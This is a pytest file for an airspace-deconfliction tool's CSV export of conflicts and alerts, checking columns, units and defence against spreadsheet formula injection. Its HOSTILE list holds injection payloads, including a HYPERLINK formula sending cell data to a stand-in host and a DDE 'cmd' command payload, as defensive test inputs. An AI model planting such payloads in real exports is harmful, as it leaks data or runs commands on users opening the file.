"""CSV of conflicts and alerts: one row each, readable columns, read back by the csv
module; hostile names neither break the quoting nor run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from interlock.formats.tables import (
    ALERT_COLUMNS,
    CONFLICT_COLUMNS,
    alerts_csv,
    conflicts_csv,
    safe,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    'quote " and, comma\nand a line break',
]


def conflict(**over: Any) -> dict[str, Any]:
    base = {
        "id": 7,
        "a_kind": "notice",
        "a_id": "n-a",
        "a_version": 1,
        "b_kind": "asset",
        "b_id": "a-b",
        "b_version": 1,
        "a_party": "blue",
        "b_party": "red",
        "severity": "major",
        "parties": ["blue", "red"],
        "window_start": "2026-12-07T10:00:00Z",
        "window_end": "2026-12-07T11:30:00Z",
        "time_gap_s": 0.0,
        "horizontal_distance_m": 3_704.0,
        "horizontal_minimum_m": 9_260.0,
        "vertical_gap_m": -304.8,
        "vertical_minimum_m": 304.8,
        "worst_lon": 33.0,
        "worst_lat": 34.0,
        "detected_at": 1_796_637_600.0,  # 2026-12-07 10:00 UTC
        "closed_at": None,
        "closed_reason": None,
    }
    return {**base, **over}


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_conflict_is_one_readable_row() -> None:
    text = conflicts_csv(
        [conflict(), conflict(id=8, closed_at=1_796_641_200.0, closed_reason="cancelled")],
        {"blue": "Blue command", "red": "Red airbase"}.__getitem__,
        lambda kind, ref, version: {"n-a": "VIPER 11", "a-b": "Akrotiri"}[ref],
    )
    header, first, second = rows(text)
    assert tuple(header) == CONFLICT_COLUMNS
    row = dict(zip(header, first, strict=True))
    assert row["detected (UTC)"] == "2026-12-07 10:00"
    assert (row["party A"], row["A"], row["party B"], row["B"]) == (
        "Blue command",
        "VIPER 11",
        "Red airbase",
        "Akrotiri",
    )
    assert (row["from (UTC)"], row["to (UTC)"]) == ("2026-12-07 10:00", "2026-12-07 11:30")
    assert row["horizontal separation (NM)"] == "2.00" and row["horizontal minimum (NM)"] == "5.00"
    assert row["vertical separation (ft)"] == "-1000"  # a number we wrote: not prefixed
    assert row["status"] == "open"
    assert dict(zip(header, second, strict=True))["status"] == "closed (cancelled)"
    assert text.endswith("\r\n")


def test_an_interference_conflict_has_no_distances() -> None:
    episode = conflict(
        kind="interference", start="2026-12-07T10:00:00Z", end="2026-12-07T12:00:00Z"
    )
    for key in ("window_start", "horizontal_distance_m"):
        del episode[key]
    [_, line] = rows(conflicts_csv([episode], str.upper, lambda *a: "x"))
    row = dict(zip(CONFLICT_COLUMNS, line, strict=True))
    assert row["kind"] == "interference" and row["from (UTC)"] == "2026-12-07 10:00"
    assert row["horizontal separation (NM)"] == "" and row["vertical separation (ft)"] == ""


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_text_not_formulas(name: str) -> None:
    text = conflicts_csv([conflict()], lambda p: name, lambda *a: name)
    [_, line] = rows(text)
    row = dict(zip(CONFLICT_COLUMNS, line, strict=True))
    for column in ("party A", "A", "party B", "B"):
        cell = row[column]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell.lstrip("'") == name  # nothing else changed; the quoting held
    alerts = alerts_csv(
        [{"id": name, "kind": "cpa", "parties": ["blue"], "track_ids": [name], "notice_id": "n"}],
        lambda p: name,
        lambda n: name,
    )
    [header, line] = rows(alerts)
    assert len(line) == len(ALERT_COLUMNS) == len(header)
    for cell in line:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_leaves_numbers_and_plain_text() -> None:
    assert safe(-3) == -3 and safe(None) is None and safe("VIPER 11") == "VIPER 11"
    assert safe("-3") == "'-3"


def test_an_alert_is_one_readable_row() -> None:
    alert = {
        "id": "al-1",
        "kind": "cpa",
        "severity": "critical",
        "state": "raised",
        "parties": ["blue", "red"],
        "track_ids": ["4CA1FA", "blue:viper11"],
        "notice_id": None,
        "raised_at": "2026-12-07T10:00:05Z",
        "updated_at": "2026-12-07T10:00:09Z",
        "cpa_at": "2026-12-07T10:03:00Z",
        "cpa_distance_m": 1_852.0,
        "vertical_separation_ft": 400.0,
        "corroborated": False,
        "cleared_at": None,
    }
    [header, line] = rows(alerts_csv([alert], {"blue": "Blue", "red": "Red"}.__getitem__, str))
    row = dict(zip(header, line, strict=True))
    assert tuple(header) == ALERT_COLUMNS
    assert row["parties"] == "Blue; Red" and row["tracks"] == "4CA1FA; blue:viper11"
    assert (
        row["raised (UTC)"] == "2026-12-07 10:00"
        and row["closest approach (UTC)"] == "2026-12-07 10:03"
    )
    assert row["separation at closest approach (NM)"] == "1.00"
    assert row["vertical separation (ft)"] == "400" and row["corroborated"] == "no"
    assert row["notice"] == "" and row["cleared (UTC)"] == ""
